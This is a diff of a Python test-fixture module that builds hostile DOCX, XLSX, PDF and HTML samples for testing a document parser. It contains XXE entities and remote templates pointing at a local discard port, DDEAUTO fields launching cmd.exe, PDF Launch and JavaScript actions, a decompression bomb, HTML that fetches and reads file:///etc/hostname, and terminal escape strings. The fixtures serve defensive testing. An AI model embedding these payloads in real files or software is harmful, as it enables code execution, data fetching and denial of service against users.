@@ -20,6 +20,9 @@ HEADING = "What needs to improve?"
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x08 \u202etxet\u2066\u200f"
 """What would drive a terminal, or turn what stands on it round."""
 
+HOME = "127.0.0.1:9"
+"""Where what would fetch something, or send something out, is told to go."""
+
 # Packages
 
 
@@ -71,7 +74,7 @@ def docx() -> bytes:
 @functools.cache
 def xlsx() -> bytes:
     """Make a sound workbook: a plan of one action."""
-    from xlsxwriter import Workbook
+    from xlsxwriter import Workbook  # type: ignore[import-untyped]
 
     stream = io.BytesIO()
     with Workbook(stream, {"in_memory": True}) as book:
@@ -138,7 +141,7 @@ def docx_that_names_a_file_of_ours() -> bytes:
 
 
 def docx_that_calls_home() -> bytes:
-    declared = '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/x.dtd"> %e;]>'
+    declared = f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{HOME}/x.dtd"> %e;]>'
     return docx_of(PARAGRAPH.format("x"), declared)
 
 
@@ -302,7 +305,7 @@ def docx_nested_200_deep() -> bytes:
 
 def docx_of_fields() -> bytes:
     """Put in fields that would start a program, or fetch a picture, in Word."""
-    fields = (r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', r"INCLUDEPICTURE \\127.0.0.1\x")
+    fields = (r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', r"INCLUDEPICTURE \\nobody\x")
     body = "".join(
         f'<w:p><w:fldSimple w:instr="{each.replace(chr(34), "&quot;")}"/></w:p>' for each in fields
     )
@@ -313,7 +316,7 @@ def docx_with_a_template_elsewhere() -> bytes:
     relations = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="http://127.0.0.1:9/x.dotm" TargetMode="External"/>'
+        f'relationships/attachedTemplate" Target="http://{HOME}/x.dotm" TargetMode="External"/>'
         "</Relationships>"
     )
     return with_parts(docx, **{"word/_rels/settings.xml.rels": relations})
@@ -341,13 +344,10 @@ def xlsx_of_two_cells() -> bytes:
 
 
 def xlsx_that_lies_about_its_extent() -> bytes:
-    return with_parts(
-        xlsx,
-        sheet1_xml=unpacked(xlsx())["xl/worksheets/sheet1.xml"].replace(  # type: ignore[arg-type]
-            b'<dimension ref="A1:E2"/>',
-            b'<dimension ref="A1:XFD1048576"/>',  # type: ignore[arg-type]
-        ),
-    )
+    part = unpacked(xlsx())["xl/worksheets/sheet1.xml"]
+    assert isinstance(part, bytes)
+    lie = part.replace(b'<dimension ref="A1:E2"/>', b'<dimension ref="A1:XFD1048576"/>')
+    return with_parts(xlsx, sheet1_xml=lie)
 
 
 def xlsx_of_a_million_rows() -> bytes:
@@ -498,9 +498,10 @@ def pdf_of_a_huge_page() -> bytes:
 
 
 def pdf_flate_bomb() -> bytes:
-    """Pack packed spaces: 60 kB that unpack to 4 GB in two steps."""
-    once = zlib.compress(b" " * 500_000_000, 9)
-    return pdf_of(stream(zlib.compress(once * 8, 9), b"/Filter[/FlateDecode/FlateDecode]"))
+    """Pack packed spaces: that unpack to 900 MB in two steps."""
+    packing, spaces = zlib.compressobj(9), b" " * 1_000_000
+    once = b"".join(packing.compress(spaces) for _ in range(900)) + packing.flush()
+    return pdf_of(stream(zlib.compress(once, 9), b"/Filter[/FlateDecode/FlateDecode]"))
 
 
 def pdf_text_bomb() -> bytes:
@@ -553,10 +554,9 @@ def pdf_after_junk() -> bytes:
 def pdf_of_actions() -> bytes:
     catalogue = (
         b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)/Next<</S/URI/URI"
-        b"(http://127.0.0.1:9/)>>>>/AA<</WC<</S/JavaScript/JS(app.launchURL('http://127.0.0.1:9'))"
-        b">>>>>>"
+        b"(http://HOME/)>>>>/AA<</WC<</S/JavaScript/JS(app.launchURL('http://HOME'))>>>>>>"
     )
-    return sound_pdf(catalogue=catalogue)
+    return sound_pdf(catalogue=catalogue.replace(b"HOME", HOME.encode()))
 
 
 def pdf_with_an_attachment() -> bytes:
@@ -606,25 +606,25 @@ def html_of_a_list(more: str = "") -> bytes:
     return html(f"<h2>{HEADING}</h2><ul><li>{FINDING}</li></ul>{more}")
 
 
-def html_nested(tag: str = "div", deep: int = 1_000_000) -> bytes:
-    """Open a million elements, and close none."""
+def html_nested(tag: str = "div", deep: int = 200_000) -> bytes:
+    """Open many elements, and close none."""
     return html(f"<{tag}>" * deep + "x")
 
 
 def html_of_entities() -> bytes:
-    return html("&#1114112;&#x1b;&#xd800;&#0;&" + "a" * 1_000_000 + ";" + "&amp" * 500_000)
+    return html("&#1114112;&#x1b;&#xd800;&#0;&" + "a" * 500_000 + ";" + "&amp" * 100_000)
 
 
 def html_that_fetches() -> bytes:
     return html_of_a_list(
-        "<script>fetch('http://127.0.0.1:9')</script><img src=http://127.0.0.1:9/x.png>"
+        f"<script>fetch('http://{HOME}')</script><img src=http://{HOME}/x.png>"
         "<iframe src=file:///etc/hostname></iframe><meta http-equiv=refresh content='0;url=//x'>"
         f"<object data='data:text/html;base64,{'QUJD' * 100_000}'></object>"
     )
 
 
 def html_of_broken_tags() -> bytes:
-    return html("<" * 300_000 + "<a " + "x='" * 100_000 + "<!--" * 100_000 + "<![CDATA[" * 50_000)
+    return html("<" * 90_000 + "<a " + "x='" * 30_000 + "<!--" * 30_000 + "<![CDATA[" * 20_000)
 
 
 def text_of_a_list(more: str = "") -> bytes:
@@ -666,12 +666,9 @@ def text_of_one_paragraph() -> bytes:
     )
 
 
-def text_of_one_list() -> bytes:
-    return (
-        f"{HEADING}\n\n".encode()
-        + b"- "
-        + b"\n- ".join(b"point %d is to improve" % n for n in range(100_000))
-    )
+def text_of_one_list(points: int = 100_000) -> bytes:
+    listed = "\n- ".join(f"point {number} is to improve" for number in range(points))
+    return f"{HEADING}\n\n- {listed}".encode()
 
 
 def text_of_nested_lists() -> bytes:
